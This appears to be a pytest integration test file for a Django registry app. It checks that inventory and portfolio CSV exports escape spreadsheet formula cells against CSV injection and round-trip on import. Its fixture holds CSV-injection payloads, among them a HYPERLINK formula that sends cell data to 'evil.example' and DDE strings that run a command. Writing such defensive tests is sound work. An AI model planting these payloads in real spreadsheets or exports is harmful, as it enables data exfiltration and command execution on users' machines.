"""Every CSV export escapes cells a spreadsheet would run as a formula (CSV injection), with one helper.

Before: the inventory CSV wrote ``=HYPERLINK(...)``, ``+cmd|...`` and ``@SUM(...)`` verbatim (the portfolio CSV
already escaped them, with its own copy of the rule).
"""

import csv
import io

import pytest
from django.urls import reverse

from registry import exporters, selectors
from registry.importers import import_files
from registry.models import Project

pytestmark = [pytest.mark.django_db, pytest.mark.integration]

HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "description": "+cmd|' /C calc'!A0",
    "business_goal": "@SUM(1+1)*cmd|' /C calc'!A0",
    "kpis": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile(project):
    Project.objects.filter(pk=project.pk).update(**HOSTILE)
    return project


def cells(text):
    rows = list(csv.DictReader(io.StringIO(text)))
    return rows[0]


def test_the_inventory_csv_export_escapes_formula_cells(client, member, hostile):
    client.force_login(member)

    response = client.get(reverse("registry:project-export-csv"))

    row = cells(response.content.decode())
    for field, value in HOSTILE.items():
        assert row[field] == "'" + value


def test_an_escaped_inventory_export_imports_back_to_the_original_text(hostile):
    exported = exporters.export_csv(selectors.project_list().prefetch_related("components"))

    result = import_files([("inventory.csv", exported.encode())])

    assert result.ok, result.errors
    hostile.refresh_from_db()
    assert {field: getattr(hostile, field) for field in HOSTILE} == HOSTILE


def test_the_portfolio_csv_escapes_with_the_same_helper(client, admin_user, hostile):
    client.force_login(admin_user)

    response = client.get(reverse("reports:portfolio"), {"format": "csv", "table": "projects"})

    assert response.status_code == 200
    assert cells(response.content.decode())["project"] == "'" + HOSTILE["name"]
